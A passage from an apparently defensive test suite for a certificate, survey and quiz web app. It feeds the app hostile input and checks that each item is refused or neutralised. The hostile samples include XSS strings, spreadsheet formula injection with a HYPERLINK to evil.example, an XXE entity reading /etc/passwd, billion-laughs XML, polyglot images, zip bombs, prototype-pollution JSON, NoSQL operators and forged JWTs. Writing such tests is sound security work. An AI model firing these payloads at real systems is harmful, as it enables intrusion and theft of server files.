    const person = await createUser({
      opd: w.ids.opdA,
      name: HTML_PAYLOADS[0],
      jabatan: FORMULA_PAYLOADS[0],
      unitKerja: HTML_PAYLOADS[1],
    });
    hostile = (await issueForTest(person._id, w.ids.courses.published.id)) as typeof hostile;
  }, 60_000);

  it('the list, the verification page and a revocation with a hostile reason inject nothing', async () => {
    const problems: string[] = [];
    problems.push(...check('list', await hr.get('/admin/sertifikat'), [200]));
    problems.push(
      ...check('search', await hr.get(`/admin/sertifikat?q=${encodeURIComponent(HTML_PAYLOADS[2])}`), [200]),
    );
    problems.push(...check('verify', await request(w.t.app).get(`/verifikasi/${hostile.code}`), [200]));
    const revoke = await admin
      .post(`/admin/sertifikat/${String(hostile._id)}/cabut`)
      .type('form')
      .send({ _csrf: await tokenOf(admin, '/admin/sertifikat'), reason: HTML_PAYLOADS[3] });
    expect(revoke.status).toBe(303);
    problems.push(
      ...check('revoked verify', await request(w.t.app).get(`/verifikasi/${hostile.code}`), [200]),
    );
    problems.push(...check('revoked list', await admin.get('/admin/sertifikat?status=revoked'), [200]));
    expect(problems).toEqual([]);
  });

  it('the CSV and the ZIP manifest neutralise every formula while keeping the data', async () => {
    const csv = await hr.get('/admin/sertifikat/ekspor.csv');
    const cells = (
      parseCsv(csv.text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]
    ).flat();
    expect(cells.filter(isFormula)).toEqual([]);
    expect(cells).toContain(`'${FORMULA_PAYLOADS[0]}`);
    const zip = await hr.get('/admin/sertifikat/unduh.zip').buffer(true).parse(collectBytes);
    const entries = unzipWithinLimits(zip.body as Buffer, {
      maxBytes: 50_000_000,
      maxEntries: 100,
      maxRatio: 100,
    });
    if (!entries.ok) throw new Error(entries.reason);
    const manifest = entries.entries
      .get('manifest.csv')!
      .toString('utf8')
      .replace(/^\uFEFF/, '');
    const manifestCells = (parseCsv(manifest, { relax_column_count: true }) as string[][]).flat();
    expect(manifestCells.filter(isFormula)).toEqual([]);
    expect(manifestCells).toContain(HTML_PAYLOADS[0]);
    for (const name of entries.entries.keys()) expect(name).toMatch(/^[A-Za-z0-9._-]+$/);
  });

  it('the XLSX writes every formula as text', async () => {
    const res = await hr.get('/admin/sertifikat/ekspor.xlsx').buffer(true).parse(collectBytes);
    const workbook = new ExcelJS.Workbook();
    const body = res.body as Buffer;
    await workbook.xlsx.load(
      body.buffer.slice(body.byteOffset, body.byteOffset + body.byteLength) as ArrayBuffer,
    );
    const cells: string[] = [];
    workbook.worksheets[0].eachRow((row) => row.eachCell((cell) => cells.push(String(cell.value))));
    expect(cells.filter(isFormula)).toEqual([]);
    expect(cells).toContain(`'${FORMULA_PAYLOADS[0]}`);
  });

  it('malformed uploads and hostile file names at the PDF check answer 4xx or the page, never 500', async () => {
    const problems: string[] = [];
    for (const bad of MALFORMED_MULTIPART) {
      const res = await request(w.t.app)
        .post('/verifikasi/berkas')
        .set('Content-Type', bad.type)
        .send(bad.body);
      if (res.status >= 500) problems.push(`${bad.what}: ${res.status}`);
    }
    const agent = request.agent(w.t.app);
    for (const name of HOSTILE_FILE_NAMES) {
      const token = await tokenOf(agent, `/verifikasi/${w.ids.certificates.inA.code}`);
      const res = await agent
        .post('/verifikasi/berkas')
        .field('_csrf', token)
        .field('code', w.ids.certificates.inA.code)
        .attach('file', Buffer.from('%PDF-1.4 bukan sertifikat'), name);
      problems.push(...check(`file ${short(name)}`, res, [200]));
      if (!res.text.includes('Tidak identik')) problems.push(`file ${short(name)}: no verdict`);
    }
    expect(problems).toEqual([]);
  });

  it('institution logos: polyglots, markup, SVG, bombs and oversize files are refused with a message, nothing stored', async () => {
    const { png, pngOf, pngChunk, deflatedZeros, JPEG_1X1, PNG_SIGNATURE } =
      await import('../fixtures/images');
    const { buildLyingBomb, buildZip } = await import('../fixtures/zip');
    const script = Buffer.from('<script>alert(document.domain)</script>');
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    );
    const zipped = buildZip([{ name: 'index.html', data: script }]);
    const refused: { what: string; bytes: Buffer; name?: string; status: number; message: RegExp }[] = [
      { what: 'empty', bytes: Buffer.alloc(0), status: 422, message: /Pilih berkas logo|logo/i },
      {
        what: 'PNG signature, then a script',
        bytes: Buffer.concat([PNG_SIGNATURE, script]),
        status: 422,
        message: /PNG atau JPEG yang utuh/,
      },
      {
        what: 'PNG + HTML polyglot',
        bytes: Buffer.concat([png(20, 20), script]),
        status: 422,
        message: /PNG atau JPEG yang utuh/,
      },
      {
        what: 'PNG + ZIP polyglot',
        bytes: Buffer.concat([png(20, 20), zipped]),
        status: 422,
        message: /PNG atau JPEG yang utuh/,
      },
      {
        what: 'PNG with markup in a text chunk',
        bytes: pngOf(20, 20, [
          pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), svg])),
          pngChunk('IDAT', png(20, 20).subarray(8 + 25 + 8, -16)),
        ]),
        status: 422,
        message: /PNG atau JPEG yang utuh/,
      },
      {
        what: 'JPEG + HTML polyglot',
        bytes: Buffer.concat([JPEG_1X1, script]),
        status: 422,
        message: /PNG atau JPEG yang utuh/,
      },
      {
        what: 'GIF/JavaScript polyglot',
        bytes: Buffer.from('GIF89a/*\x01\x00\x01\x00*/=alert(1)//'),
        status: 422,
        message: /PNG atau JPEG yang utuh/,
      },
      { what: 'SVG named .png', bytes: svg, status: 422, message: /PNG atau JPEG yang utuh/ },
      {
        what: 'zip bomb named .png',
        bytes: await buildLyingBomb(50 * 1024 * 1024),
        status: 422,
        message: /PNG atau JPEG yang utuh/,
      },
      {
        what: 'PNG of 100000 × 100000 pixels',
        bytes: pngOf(100_000, 100_000, [pngChunk('IDAT', await deflatedZeros(40 * 1024 * 1024))]),
        status: 422,
        message: /PNG atau JPEG yang utuh/,
      },
      {
        what: 'PNG of 100 × 100 pixels whose pixels inflate to 100 MB',
        bytes: pngOf(100, 100, [pngChunk('IDAT', await deflatedZeros(100 * 1024 * 1024))]),
        status: 422,
        message: /PNG atau JPEG yang utuh/,
      },
      {
        what: 'over 512 KB',
        bytes: Buffer.concat([png(10, 10), Buffer.alloc(600 * 1024)]),
        status: 422,
        message: /paling besar 512 KB/,
      },
      {
        what: 'over twice the limit',
        bytes: Buffer.alloc(3 * 1024 * 1024, 0x89),
        status: 413,
        message: /terlalu besar/,
      },
    ];
    const { Institution } = await import('../../src/institutions/institution.model');
    const mongoose = (await import('mongoose')).default;
    const storedFiles = () => mongoose.connection.db!.collection('institutionLogos.files').countDocuments();
    const before = await storedFiles();
    const problems: string[] = [];
    for (const [agent, id] of [
      [admin, w.ids.opdB],
      [curator, w.ids.university],
    ] as const) {
      const edit = `/admin/institutions/${id}/edit`;
      for (const file of refused) {
        const res = await agent
          .post(`/admin/institutions/${id}/logo`)
          .field('_csrf', await tokenOf(agent, edit))
          .attach('logo', file.bytes, { filename: file.name ?? 'logo.png', contentType: 'image/png' });
        problems.push(...check(file.what, res, [file.status]));
        if (!file.message.test(res.text)) problems.push(`${file.what}: no message`);
        if (file.status === 422 && !res.text.includes('id="logo-error"'))
          problems.push(`${file.what}: the message is not next to the field`);
      }
      for (const name of HOSTILE_FILE_NAMES) {
        const res = await agent
          .post(`/admin/institutions/${id}/logo`)
          .field('_csrf', await tokenOf(agent, edit))
          .attach('logo', svg, name);
        problems.push(...check(`logo named ${short(name)}`, res, [422]));
      }
      for (const bad of MALFORMED_MULTIPART) {
        const res = await agent
          .post(`/admin/institutions/${id}/logo`)
          .set('Content-Type', bad.type)
          .send(bad.body);
        if (res.status < 400 || res.status >= 500) problems.push(`logo ${bad.what}: ${res.status}`);
      }
      const institution = await Institution.findById(id, { logo: 1 }).lean();
      if (institution?.logo) problems.push(`${id}: a logo was stored`);
    }
    if ((await storedFiles()) !== before) problems.push('a logo file reached GridFS');
    expect(problems).toEqual([]);
    // The same checks let plain images through, with the XMP metadata design tools write.
    const xmp = Buffer.from(
      'XML:com.adobe.xmp\0\0\0\0\0<?xml version="1.0"?><?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>' +
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/>' +
        '</x:xmpmeta><?xpacket end="w"?>',
    );
    const withXmp = pngOf(20, 20, [
      pngChunk('iTXt', xmp),
      pngChunk('IDAT', png(20, 20).subarray(8 + 25 + 8, -16)),
    ]);
    for (const [bytes, name] of [
      [JPEG_1X1, 'logo.jpg'],
      [withXmp, 'logo.png'],
    ] as const) {
      const token = await tokenOf(admin, `/admin/institutions/${w.ids.opdB}/edit`);
      const saved = await admin
        .post(`/admin/institutions/${w.ids.opdB}/logo`)
        .field('_csrf', token)
        .attach('logo', bytes, name);
      expect(saved.status).toBe(303);
    }
  }, 120_000);

  it('credentials at the verification page: broken, deeply nested or hostile JSON is refused or judged, never 500', async () => {
    const learner = await w.agent('learner');
    const own = w.ids.certificates.learner;
    const genuine = await learner.get(`/sertifikat/${own.id}/openbadge.json`).buffer(true);
    expect(genuine.status).toBe(200);
    const credential = JSON.parse(String(genuine.text || (genuine.body as Buffer).toString('utf8'))) as {
      credentialSubject: { achievement: { name: string; description?: string } };
      name?: string;
    };
    const hostile = structuredClone(credential);
    hostile.credentialSubject.achievement.name = HTML_PAYLOADS[0];
    hostile.credentialSubject.achievement.description = HTML_PAYLOADS[1];
    hostile.name = FORMULA_PAYLOADS[0];
    const deep = (n: number) => `{"a":${'['.repeat(n)}${']'.repeat(n)}}`;
    const deepProof = `{"proof":{"type":"DataIntegrityProof","cryptosuite":"eddsa-rdfc-2022","proofPurpose":"assertionMethod","proofValue":"z1","@context":${'['.repeat(200_000)}${']'.repeat(200_000)}}}`;
    const uploads: { what: string; bytes: Buffer; status: number; text: string | RegExp }[] = [
      {
        what: 'genuine',
        bytes: Buffer.from(JSON.stringify(credential)),
        status: 200,
        text: 'Sah: kredensial',
      },
      {
        what: 'hostile strings',
        bytes: Buffer.from(JSON.stringify(hostile)),
        status: 200,
        text: 'Tidak sah',
      },
      {
        what: 'malformed JSON',
        bytes: Buffer.from('{"@context": ["https://www.w3.org/ns/credentials/v2"'),
        status: 422,
        text: 'tidak dapat dibaca',
      },
      {
        what: 'trailing garbage',
        bytes: Buffer.from(`${JSON.stringify(credential)}<script>alert(1)</script>`),
        status: 422,
        text: 'tidak dapat dibaca',
      },
      {
        what: 'invalid UTF-8',
        bytes: Buffer.concat([Buffer.from('{"name":"'), INVALID_UTF8, Buffer.from('"}')]),
        status: 422,
        text: 'tidak dapat dibaca',
      },
      { what: 'nested 100 deep', bytes: Buffer.from(deep(100)), status: 422, text: 'tidak dapat dibaca' },
      {
        what: 'nested 200000 deep',
        bytes: Buffer.from(deep(200_000)),
        status: 422,
        text: 'tidak dapat dibaca',
      },
      {
        what: 'a proof nested 200000 deep',
        bytes: Buffer.from(deepProof),
        status: 422,
        text: 'tidak dapat dibaca',
      },
      {
        what: 'an object holding __proto__',
        bytes: Buffer.from('{"__proto__":{"polluted":1},"proof":{"constructor":{"prototype":{"x":1}}}}'),
        status: 200,
        text: 'Tidak sah',
      },
      {
        what: 'over 5 MB',
        bytes: Buffer.concat([Buffer.from('{"a":"'), Buffer.alloc(6 * 1024 * 1024, 0x61), Buffer.from('"}')]),
        status: 413,
        text: /terlalu besar/,
      },
    ];
    const agent = request.agent(w.t.app);
    const problems: string[] = [];
    for (const upload of uploads) {
      // The token first: the agent attaches its cookies when the request is built.
      const token = await tokenOf(agent, `/verifikasi/${own.code}`);
      const res = await agent
        .post('/verifikasi/berkas')
        .field('_csrf', token)
        .field('code', own.code)
        .attach('file', upload.bytes, { filename: 'kredensial.json', contentType: 'application/json' });
      problems.push(...check(upload.what, res, [upload.status]));
      const found =
        typeof upload.text === 'string' ? res.text.includes(upload.text) : upload.text.test(res.text);
      if (!found) problems.push(`${upload.what}: no verdict or message`);
      if (upload.status === 422 && !res.text.includes('id="file-error"'))
        problems.push(`${upload.what}: the message is not next to the field`);
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(problems).toEqual([]);
  }, 60_000);

  it('VC-JWTs at the verification page: alg none, HS256 with the public key, an attacker jwk, huge or nested headers and bad base64url are refused, never 500', async () => {
    // The certificates were issued on the wall clock; a token is not valid before its nbf.
    if (w.t.clock.now.getTime() < Date.now()) w.t.clock.now = new Date();
    const learner = await w.agent('learner');
    const own = w.ids.certificates.learner;
    const genuine = await learner.get(`/sertifikat/${own.id}/openbadge.jwt`).buffer(true);
    expect(genuine.status).toBe(200);
    const token = String(genuine.text || (genuine.body as Buffer).toString('utf8'));
    const header = decodeParts(token).header as { kid: string };
    const jwk = JSON.parse(
      (await request(w.t.app).get(new URL(header.kid).pathname)).text,
    ) as crypto.JsonWebKey;
    const pem = crypto.createPublicKey({ key: jwk, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
    const attempts = [
      { what: 'genuine', token, unreadable: false, genuine: true },
      ...forgedTokens(token, pem.toString()).map((f) => ({ ...f, genuine: false })),
      { what: 'an HTML payload', token: `eyJ${HTML_PAYLOADS[0]}`, unreadable: true, genuine: false },
      {
        what: 'over the paste limit',
        token: `eyJ${'A'.repeat(1024 * 1024 + 10)}`,
        unreadable: true,
        genuine: false,
      },
    ];
    const agent = request.agent(w.t.app);
    const problems: string[] = [];
    for (const attempt of attempts) {
      for (const how of ['file', 'paste'] as const) {
        if (how === 'paste' && attempt.what === 'over the paste limit') continue; // multer's field limit: 400 below
        const csrf = await tokenOf(agent, `/verifikasi/${own.code}`);
        const req = agent.post('/verifikasi/berkas').field('_csrf', csrf).field('code', own.code);
        const res = await (how === 'file'
          ? req.attach('file', Buffer.from(attempt.token), {
              filename: 'badge.jwt',
              contentType: 'application/jwt',
            })
          : req.field('token', attempt.token));
        const what = `${attempt.what} (${how})`;
        problems.push(...check(what, res, [attempt.unreadable ? 422 : 200]));
        const verdict = attempt.unreadable
          ? 'tidak dapat dibaca sebagai Open Badge JWT'
          : attempt.genuine
            ? 'Sah: kredensial Open Badges'
            : 'Tidak sah';
        if (!res.text.includes(verdict)) problems.push(`${what}: no "${verdict}"`);
        if (attempt.unreadable && !res.text.includes('id="file-error"'))
          problems.push(`${what}: the message is not next to the field`);
      }
    }
    const csrf = await tokenOf(agent, `/verifikasi/${own.code}`);
    const tooLong = await agent
      .post('/verifikasi/berkas')
      .field('_csrf', csrf)
      .field('code', own.code)
      .field('token', `eyJ${'A'.repeat(1024 * 1024 + 10)}`);
    problems.push(...check('a pasted token over 1 MB', tooLong, [400, 413]));
    expect(problems).toEqual([]);
  }, 120_000);

  it('the PDF prints the hostile name as text', async () => {
    const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'sertifikat-')), 's.pdf');
    fs.writeFileSync(file, await readCertificateFile(hostile.file!.id as never));
    const text = execFileSync('pdftotext', [file, '-'], { encoding: 'utf8' });
    expect(text).toContain(HTML_PAYLOADS[0]);
  });

  it('hostile filters, codes and NIPs answer 4xx or the usual page, never 500', async () => {
    const problems: string[] = [];
    for (const payload of [...QUERY_CONTROL_PAYLOADS, ...OPERATOR_PAYLOADS, ...HTML_PAYLOADS.slice(0, 3)]) {
      const q = encodeURIComponent(payload);
      for (const url of [
        `/admin/sertifikat?q=${q}`,
        `/admin/sertifikat?opd=${q}&course=${q}&from=${q}`,
        `/admin/sertifikat/ekspor.csv?q=${q}`,
      ])
        problems.push(...check(url, await hr.get(url), [200, 400]));
      problems.push(
        ...check(`verify ${short(payload)}`, await request(w.t.app).get(`/verifikasi/${q}`), [404, 400]),
      );
      problems.push(
        ...check(
          `verify form ${short(payload)}`,
          await request(w.t.app).get(`/verifikasi?kode=${q}`),
          [200, 404, 400],
        ),
      );
    }
    for (const op of ['opd[$ne]=x', 'q[$gt]=', 'status[$ne]=valid', '__proto__[x]=1'])
      problems.push(...check(op, await hr.get(`/admin/sertifikat?${op}`), [200, 400]));
    const anonymous = request.agent(w.t.app);
    let token = await tokenOf(anonymous, `/verifikasi/${w.ids.certificates.inA.code}`);
    for (const payload of TEXT_PAYLOADS) {
      const res = await anonymous
        .post(`/verifikasi/${w.ids.certificates.inA.code}`)
        .type('form')
        .send({ _csrf: token, nip: payload });
      problems.push(...check(`nip ${short(payload)}`, res, [422, 400]));
      if (res.text.includes('_csrf')) token = /name="_csrf" value="([^"]+)"/.exec(res.text)?.[1] ?? token;
    }
    expect(problems).toEqual([]);
  }, 120_000);
});

describe('service units and the public survey given hostile input', () => {
  const answers = Object.fromEntries(Array.from({ length: 9 }, (_, i) => [`u${i + 1}`, '3']));

  it('save hostile text of every survey and unit field as text or refuse it with 422, never 500', async () => {
    const problems: string[] = [];
    const citizen = await w.agent('anonymous');
    const citizenToken = await tokenOf(citizen, `/ikm/${w.ids.units.a.code}`);
    const payloads = [...HTML_PAYLOADS, ...FORMULA_PAYLOADS, ...CONTROL_PAYLOADS, LONG_PAYLOADS[0]];
    for (const payload of payloads.slice(0, 15)) {
      const fields = { feedback: payload, contactName: payload, contactReach: payload, wantsReply: 'ya' };
      problems.push(
        ...check(
          `survey ${short(payload)}`,
          await citizen
            .post(`/ikm/${w.ids.units.a.code}`)
            .type('form')
            .send({ _csrf: citizenToken, ...answers, ...fields }),
          [303, 422],
        ),
      );
    }
    for (const payload of [...payloads, ...OPERATOR_PAYLOADS.map(String)])
      for (const field of ['u1', 'ageBand', 'feedbackKind'])
        problems.push(
          ...check(
            `survey ${field} ${short(payload)}`,
            await citizen
              .post(`/ikm/${w.ids.units.a.code}`)
              .type('form')
              .send({ _csrf: citizenToken, ...answers, [field]: payload }),
            [422],
          ),
        );
    // The staff form takes ids only: any other text, or an operator, is refused whole.
    for (const payload of [...payloads.slice(0, 8), ...OPERATOR_PAYLOADS.map(String)])
      problems.push(
        ...check(
          `unit staff ${short(payload)}`,
          await hr
            .post(`/unit-layanan/${w.ids.units.a.id}/staf`)
            .type('form')
            .send({ _csrf: hrToken, staff: payload, matchUnitKerja: 'on' }),
          [422],
        ),
      );
    for (const op of ['staff[$ne]=x', 'staff[__proto__][x]=1', 'matchUnitKerja[$gt]='])
      problems.push(
        ...check(
          `unit staff ${op}`,
          await hr.post(`/unit-layanan/${w.ids.units.a.id}/staf`).type('form').send(`_csrf=${hrToken}&${op}`),
          [422, 400],
        ),
      );
    for (const payload of [...HTML_PAYLOADS, ...FORMULA_PAYLOADS, LONG_PAYLOADS[0]]) {
      problems.push(
        ...check(
          `unit name ${short(payload)}`,
          await hr
            .post('/unit-layanan')
            .type('form')
            .send({ _csrf: hrToken, name: `Loket ${payload}`, opd: w.ids.opdA, monthlyVolume: '10' }),
          [303, 422],
        ),
      );
      problems.push(
        ...check(
          `element ${short(payload)}`,
          await hr
            .post(`/unit-layanan/${w.ids.units.a.id}/instrumen`)
            .type('form')
            .send({
              _csrf: hrToken,
              e0_key: 'u1',
              e0_name: payload.slice(0, 100),
              e0_question: payload.slice(0, 300),
              e0_o1: 'a',
              e0_o2: 'b',
              e0_o3: 'c',
              e0_o4: payload.slice(0, 80),
            }),
          [303, 422],
        ),
      );
    }
    expect(problems).toEqual([]);
  }, 120_000);

  it('show it as text on every unit page and the public form, and neutralise it in the exports', async () => {
    const problems: string[] = [];
    const result = await crawl(hr, ['/unit-layanan', `/unit-layanan/${w.ids.units.a.id}`], {
      maxPages: 40,
      skip: (p) => /\.(csv|xlsx|pdf)/.test(p),
    });
    for (const [path, status] of result.visited) if (status >= 500) problems.push(`${path}: ${status}`);
    for (const [path, html] of result.pages)
      for (const p of injectedElements(html)) problems.push(`${path}: ${p}`);
    const form = await (await w.agent('anonymous')).get(`/ikm/${w.ids.units.a.code}`);
    for (const p of injectedElements(form.text)) problems.push(`/ikm: ${p}`);
    expect(problems).toEqual([]);
    expect(result.pages.size).toBeGreaterThan(5);
    const csv = await hr.get(`/unit-layanan/${w.ids.units.a.id}/hasil.csv`);
    const cells = (
      parseCsv(csv.text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]
    ).flat();
    expect(cells.filter((c) => isFormula(c))).toEqual([]);
  }, 120_000);
});

describe('quizzes given hostile input', () => {
  it('question forms and Moodle XML/GIFT imports keep hostile text as text, refuse hostile XML whole, never 500', async () => {
    const author = await w.agent('author');
    const bank = `/bank-soal/${w.ids.courses.published.id}`;
    const token = await tokenOf(author, bank);
    const problems: string[] = [];
    for (const payload of [...HTML_PAYLOADS, ...LONG_PAYLOADS.slice(0, 1)]) {
      const res = await author
        .post(`${bank}/soal`)
        .type('form')
        .send({
          _csrf: token,
          type: 'single',
          category: '',
          name: payload.slice(0, 255),
          text: payload,
          points: '1',
          a1Text: payload,
          a1Fraction: '100',
          a2Text: 'b',
          a2Fraction: '0',
          a1Feedback: payload,
        });
      problems.push(...check(`question ${short(payload)}`, res, [303, 422]));
    }
    problems.push(...check('bank page', await author.get(bank), [200]));
    const entry = /\/soal\/([0-9a-f]{24})"/.exec((await author.get(bank)).text)?.[1];
    if (entry) problems.push(...check('question form', await author.get(`${bank}/soal/${entry}`), [200]));
    const gift = Buffer.from(
      HTML_PAYLOADS.map(
        (p) => `::${p.replace(/[:{}=~#]/g, '')}::${p.replace(/[{}=~#]/g, '')}{=${'ok'} ~no}`,
      ).join('\n\n'),
    );
    const hostileXml = {
      xxe: '<?xml version="1.0"?><!DOCTYPE quiz [<!ENTITY x SYSTEM "file:///etc/passwd">]><quiz>&x;</quiz>',
      laughs: `<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "${'x'.repeat(100)}"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><quiz>&b;</quiz>`,
      parameterEntity:
        '<?xml version="1.0"?><!DOCTYPE q [<!ENTITY % p SYSTEM "http://127.0.0.1/x.dtd"> %p;]><quiz/>',
    };
    for (const name of HOSTILE_FILE_NAMES) {
      const res = await author
        .post(`${bank}/impor`)
        .field('_csrf', token)
        .attach('file', gift, name.replace(/\.csv$/, '.gift'));
      problems.push(...check(`gift import ${short(name)}`, res, [303]));
      if (res.status === 303)
        problems.push(
          ...check(`gift preview ${short(name)}`, await author.get(String(res.headers.location)), [200]),
        );
    }
    for (const [what, xml] of Object.entries(hostileXml)) {
      const res = await author
        .post(`${bank}/impor`)
        .field('_csrf', token)
        .attach('file', Buffer.from(xml), `${what}.xml`);
      problems.push(...check(`xml ${what}`, res, [422]));
    }
    // Question sheets: hostile text and formula cells in every column, as CSV and XLSX, and an XLSX bomb.
    const sheetHeader = ['jenis', 'nama', 'teks', 'kategori', 'jawaban_1', 'nilai_1', 'jawaban_2', 'nilai_2'];
    // (Control characters make a CSV binary, refused whole: the people import's corpus covers that.)
    const printable = (p: string) => !/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F]/.test(p);
    const sheetRows = [...HTML_PAYLOADS, ...FORMULA_PAYLOADS, ...TEXT_PAYLOADS.filter(printable)].map((p) => [
      'pilihan_tunggal',
      p.slice(0, 200),
      p,
      p.slice(0, 100),
      p,
      '100',
      'b',
      '0',
    ]);
    const quote = (c: string) => `"${c.replace(/"/g, '""')}"`;
    const sheetCsv = Buffer.from([sheetHeader, ...sheetRows].map((r) => r.map(quote).join(',')).join('\r\n'));
    const book = new ExcelJS.Workbook();
    const ws = book.addWorksheet('Soal');
    ws.addRow(sheetHeader);
    for (const r of sheetRows) ws.addRow(r);
    ws.addRow([
      'pilihan_tunggal',
      { formula: 'HYPERLINK("http://evil.example","x")' },
      'teks',
      '',
      'a',
      '100',
      'b',
      '0',
    ]);
    const sheetXlsx = Buffer.from(await book.xlsx.writeBuffer());
    for (const [file, bytes] of [
      ['soal.csv', sheetCsv],
      ['soal.xlsx', sheetXlsx],
    ] as const) {
      const res = await author.post(`${bank}/impor`).field('_csrf', token).attach('file', bytes, file);
      problems.push(...check(`sheet import ${file}`, res, [303]));
      if (res.status !== 303) continue;
      const preview = await author.get(String(res.headers.location));
      problems.push(...check(`sheet preview ${file}`, preview, [200]));
      const { QuestionImport } = await import('../../src/quizzes/question-import.model');
      const kept = await QuestionImport.findById(String(res.headers.location).split('/').pop()).lean();
      const texts = JSON.stringify(kept?.questions ?? []);
      const taken = (kept?.questions as Array<{ question: Record<string, unknown> }>).flatMap((q) => [
        String(q.question.name),
        String(q.question.text),
      ]);
      if (taken.some((t) => isFormula(t) || isFormula(t.trimStart())))
        problems.push(`sheet preview ${file}: a formula cell was taken as a question`);
      if (texts.includes('HYPERLINK("http://evil.example","x")'))
        problems.push(`sheet preview ${file}: an XLSX formula was taken as a question`);
      if ((kept?.problems as unknown[]).length < FORMULA_PAYLOADS.length)
        problems.push(`sheet preview ${file}: formula rows not reported`);
    }
    const { buildLyingBomb } = await import('../fixtures/zip');
    const bomb = await author
      .post(`${bank}/impor`)
      .field('_csrf', token)
      .attach('file', await buildLyingBomb(60 * 1024 * 1024), 'bom.xlsx');
    problems.push(...check('xlsx bomb', bomb, [422]));
    const huge = await author
      .post(`${bank}/impor`)
      .field('_csrf', token)
      .attach('file', Buffer.alloc(6 * 1024 * 1024, 0x41), 'besar.gift');
    problems.push(...check('huge import', huge, [413]));
    for (const bad of MALFORMED_MULTIPART) {
      const res = await author.post(`${bank}/impor`).set('Content-Type', bad.type).send(bad.body);
      if (res.status >= 500) problems.push(`import ${bad.what}: ${res.status}`);
    }
    const learner = await w.agent('learner');
    const quiz = `/kuis/${w.ids.courses.published.id}/${w.ids.quiz.lessonKey}`;
    const attempt = `${quiz}/percobaan/${w.ids.quiz.attempts.learner}`;
    const learnerToken = await tokenOf(learner, quiz);
    for (const payload of [...HTML_PAYLOADS, ...OPERATOR_PAYLOADS.slice(0, 2)]) {
      const res = await learner
        .post(`${attempt}/simpan`)
        .type('form')
        .send({ _csrf: learnerToken, slots: '4', q4: payload });
      if (res.status >= 500) problems.push(`autosave ${short(payload)}: ${res.status}`);
    }
    problems.push(...check('attempt page with hostile answers', await learner.get(attempt), [200, 303]));
    expect(problems).toEqual([]);
  }, 120_000);
});
